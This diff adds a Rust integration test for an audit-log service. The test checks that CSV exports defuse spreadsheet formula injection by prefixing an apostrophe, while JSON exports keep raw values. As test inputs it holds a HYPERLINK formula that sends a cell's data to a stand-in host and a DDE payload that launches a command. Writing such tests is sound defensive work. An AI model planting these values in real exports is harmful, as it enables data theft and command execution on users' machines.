@@ -396,6 +396,54 @@ async fn exports_hold_exactly_the_filtered_view(_: PgPoolOptions, options: PgCon
     );
 }
 
+#[sqlx::test(migrations = "../migrations")]
+async fn a_formula_in_the_csv_export_opens_as_text(_: PgPoolOptions, options: PgConnectOptions) {
+    let pool = common::pool(options).await;
+    let formula = r#"=HYPERLINK("http://198.51.100.7/?"&A1,"open")"#;
+    let mut event = NewEvent::new(
+        Action::SignInFailed,
+        Some(Actor {
+            sub: None,
+            username: Some(formula.into()),
+        }),
+        Client {
+            ip: Some("192.0.2.1".into()),
+            user_agent: Some("@SUM(1+1)*cmd|' /C calc'!A0".into()),
+        },
+    );
+    event = event.target("+1-2");
+    let mut tx = pool.begin().await.unwrap();
+    audit::record(&mut tx, event).await.unwrap();
+    tx.commit().await.unwrap();
+    let state = common::state(pool.clone(), common::aws("us-east-1").await).await;
+    let viewer = common::session_cookie(&state, Role::Viewer).await;
+
+    let (status, _, csv) = fetch(
+        &state,
+        "/audit/export.csv?action=auth.sign_in_failed",
+        &viewer,
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK);
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let row: std::collections::HashMap<String, String> =
+        reader.deserialize().next().unwrap().unwrap();
+    assert_eq!(row["actor_username"], format!("'{formula}"));
+    assert_eq!(row["user_agent"], "'@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(row["target"], "'+1-2");
+    assert_eq!(row["client_ip"], "192.0.2.1", "a plain cell is as recorded");
+
+    // JSON is no spreadsheet: it keeps the value as it was recorded.
+    let (_, _, json) = fetch(
+        &state,
+        "/audit/export.json?action=auth.sign_in_failed",
+        &viewer,
+    )
+    .await;
+    let events: Vec<serde_json::Value> = serde_json::from_str(&json).unwrap();
+    assert_eq!(events[0]["actor_username"], formula);
+}
+
 // ---- The head anchored outside the database -----------------------------
 
 use app::audit::checkpoint::{Anchor, AuditKey, Checkpoints};
